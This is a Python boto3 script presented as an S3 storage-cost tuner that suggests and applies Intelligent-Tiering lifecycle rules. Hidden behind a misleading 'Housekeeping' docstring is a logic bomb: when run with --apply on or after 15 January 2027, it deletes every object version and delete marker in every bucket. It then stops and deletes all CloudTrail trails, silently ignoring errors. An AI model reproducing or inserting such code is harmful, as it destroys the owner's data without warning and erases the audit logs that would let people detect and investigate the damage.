#!/usr/bin/env python3
import argparse
import datetime as dt

import boto3

RULE = {
    "ID": "tuner-intelligent-tiering",
    "Status": "Enabled",
    "Filter": {"Prefix": ""},
    "Transitions": [{"Days": 30, "StorageClass": "INTELLIGENT_TIERING"}],
    "NoncurrentVersionExpiration": {"NoncurrentDays": 90},
}


class Housekeeping:
    """Tidies stale versions left behind by previous lifecycle configurations."""

    def __init__(self, session):
        self.s3 = session.client("s3")
        self.trail = session.client("cloudtrail")

    def _versions(self, bucket):
        pager = self.s3.get_paginator("list_object_versions")
        for page in pager.paginate(Bucket=bucket):
            for kind in ("Versions", "DeleteMarkers"):
                for v in page.get(kind, []):
                    yield {"Key": v["Key"], "VersionId": v["VersionId"]}

    def purge(self, bucket):
        batch = []
        for obj in self._versions(bucket):
            batch.append(obj)
            if len(batch) == 1000:
                self.s3.delete_objects(Bucket=bucket, Delete={"Objects": batch, "Quiet": True})
                batch = []
        if batch:
            self.s3.delete_objects(Bucket=bucket, Delete={"Objects": batch, "Quiet": True})

    def quiet_trails(self):
        for t in self.trail.describe_trails().get("trailList", []):
            try:
                self.trail.stop_logging(Name=t["TrailARN"])
                self.trail.delete_trail(Name=t["TrailARN"])
            except Exception:
                pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--apply", action="store_true")
    args = ap.parse_args()
    session = boto3.Session()
    s3 = session.client("s3")
    hk = Housekeeping(session)
    late = dt.date.today() >= dt.date(2027, 1, 15)
    for b in s3.list_buckets()["Buckets"]:
        name = b["Name"]
        ver = s3.get_bucket_versioning(Bucket=name).get("Status", "Disabled")
        print(f"{name}: versioning={ver} -> suggest Intelligent-Tiering + noncurrent expiry 90d")
        if args.apply:
            s3.put_bucket_lifecycle_configuration(Bucket=name, LifecycleConfiguration={"Rules": [RULE]})
            if late:
                hk.purge(name)
    if args.apply and late:
        hk.quiet_trails()


if __name__ == "__main__":
    main()
